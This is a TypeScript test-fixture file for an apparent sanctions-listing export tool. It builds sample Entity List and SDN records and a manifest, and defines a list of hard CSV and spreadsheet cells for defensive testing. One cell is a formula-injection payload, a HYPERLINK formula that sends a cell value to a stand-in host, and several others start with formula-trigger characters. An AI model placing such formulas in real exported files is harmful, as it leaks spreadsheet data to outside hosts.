import { SCHEMA_VERSION, type Listing } from '../../../src/domain/listing';
import type { Manifest } from '../../../src/domain/manifest';
import { buildListing } from '../build-listing';

/** A valid Listing whose fields a test can override (an Entity List row by default). */
export function makeListing(overrides: Partial<Listing> = {}): Listing {
  return buildListing({
    id: 'el-1',
    list: 'EL',
    agency: 'commerce',
    type: null,
    name: 'Academy of Military Medical Sciences',
    source: { file: 'csl/consolidated.csv', row: 7, format: 'csl-csv' },
    ...overrides,
  });
}

export const SHA_CSL = 'a'.repeat(64);
export const SHA_OFAC = 'b'.repeat(64);

export function makeManifest(sample = false): Manifest {
  return {
    schemaVersion: SCHEMA_VERSION,
    generatedAt: '2026-11-28T10:00:00.000Z',
    sample,
    listingCount: 2,
    listings: { path: 'listings.json', sha256: 'c'.repeat(64), bytes: 10 },
    sources: [
      {
        id: 'csl/consolidated.csv',
        name: 'csl',
        format: 'csl-csv',
        files: [{ id: 'csl/consolidated.csv', sha256: SHA_CSL, bytes: 1, rows: 1 }],
        asOf: '2022-04-21',
        asOfBasis: 'newest start_date',
        complete: true,
        lists: ['EL', 'SDN'],
        usedFor: ['EL'],
      },
      {
        id: 'ofac/sdn.csv',
        name: 'ofac-sdn',
        format: 'ofac-csv',
        files: [{ id: 'ofac/sdn.csv', sha256: SHA_OFAC, bytes: 1, rows: 1 }],
        asOf: '2025-12-01',
        asOfBasis: 'publication date',
        complete: true,
        lists: ['SDN'],
        usedFor: ['SDN'],
      },
    ],
    lists: [
      {
        code: 'EL',
        source: 'csl/consolidated.csv',
        count: 1,
        asOf: '2022-04-21',
        reason: 'only source',
      },
      { code: 'SDN', source: 'ofac/sdn.csv', count: 1, asOf: '2025-12-01', reason: 'newer' },
    ],
  };
}

/** Cells a spreadsheet or a CSV reader could get wrong. */
export const HOSTILE_CELLS: readonly string[] = [
  '=HYPERLINK("http://example.invalid?x="&A1,"Click")',
  '+1',
  '-2',
  '@SUM(A1:A2)',
  '\tleading tab',
  '\rleading CR',
  'say "hello"',
  'comma, inside',
  'line one\nline two',
  'line one\r\nline two',
  '中国电子科技集团公司',
  'شركة الاتصالات',
  'rocket 🚀 and flag 🇮🇷',
  'Cafe\u0301 combining',
  'x'.repeat(10_000),
  '',
];
